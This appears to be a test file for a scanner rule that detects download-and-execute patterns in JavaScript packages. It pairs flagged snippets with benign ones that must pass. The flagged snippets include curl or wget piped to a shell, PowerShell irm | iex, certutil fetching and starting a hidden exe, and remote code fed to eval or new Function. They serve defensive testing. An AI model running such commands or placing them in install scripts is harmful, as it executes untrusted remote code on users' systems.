import { ruleTable } from "../helpers.js";

ruleTable("download-execute", {
  fail: [
    { name: "curl | sh in exec", code: "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');", atLeast: "high" },
    { name: "fetch then eval", code: "fetch(u).then((r) => r.text()).then((code) => eval(code));", installTime: true, atLeast: "high" },
    { name: "PowerShell iwr | iex", code: "const { exec } = require('child_process'); exec('powershell -c \"irm https://x.example/p.ps1 | iex\"');", atLeast: "high" },
    { name: "built command line", code: "const cp = require('child_process'); cp.exec('wget -qO- ' + host + '/s | sh');", atLeast: "high" },
    { name: "batch file fetching with certutil and starting it hidden, at install", shellScript: true, installTime: true, code: "certutil.exe -urlcache -f http://10.0.0.1/a.exe a.exe\r\nstart /B a.exe\r\n", atLeast: "high" },
    { name: "shell script: wget, chmod +x, run", shellScript: true, code: "wget -q https://x.example/agent -O /tmp/agent\nchmod +x /tmp/agent\n./agent &\n", atLeast: "medium" },
    { name: "new Function with the code last", code: "require('https').get(u, (r) => { let c = ''; r.on('data', (d) => { c += d; }); r.on('end', () => new Function('require', c)(require)); });", installTime: true, atLeast: "high" },
  ],
  pass: [
    { name: "a build script that only downloads", shellScript: true, code: "curl -fsSL https://example.com/schema.json -o schema.json\nnode build.js\n" },
    { name: "docs string mentioning curl", code: "console.log('Install with: see https://example.com/docs');" },
    { name: "template compiler without network", code: "const render = new Function('data', source); module.exports = render;" },
    { name: "HTTP client without eval", code: "const https = require('https'); https.get(url, (res) => res.pipe(out));" },
    { name: "native-binary installer fallback (esbuild shape) at install time", code: "const https = require('https'); const fs = require('fs'); const cp = require('child_process'); https.get(url, (r) => r.pipe(fs.createWriteStream(bin))); fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']);", installTime: true, quietBelow: "high" }, // shown for review as medium, never a verdict
  ],
});
